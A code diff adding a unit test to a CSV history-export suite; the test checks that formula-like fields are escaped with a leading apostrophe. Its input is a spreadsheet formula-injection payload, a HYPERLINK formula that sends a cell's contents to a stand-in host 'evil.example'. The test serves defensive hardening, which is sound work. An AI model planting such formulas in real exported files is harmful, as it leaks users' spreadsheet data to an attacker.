@@ -31,6 +31,13 @@ describe('history export', () => {
     expect(file.text.endsWith('\r\n')).toBe(true);
   });
 
+  it('CSV guards a page title that starts a formula and contains a line break', () => {
+    const title = '=HYPERLINK("https://evil.example/?u="&B2,"Guide")\nmore';
+    const entries = [{ projectId: 'p', projectUrl: '-1+2', projectName: title, createdAt: 'x' }];
+    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT).text.trimEnd(), { newline: '\r\n' }).data;
+    expect(rows[1]).toEqual(['p', "'-1+2", `'${title}`, 'x']);
+  });
+
   it('CSV keeps commas, quotes and line breaks inside one field', () => {
     const tricky = [{ projectId: 'p', projectUrl: 'https://e.com/?a=1,2', projectName: 'Say "hi",\nthen go', createdAt: 'x' }];
     const rows = Papa.parse<string[]>(exportHistoryCsv(tricky, AT).text.trimEnd(), { newline: '\r\n' }).data;
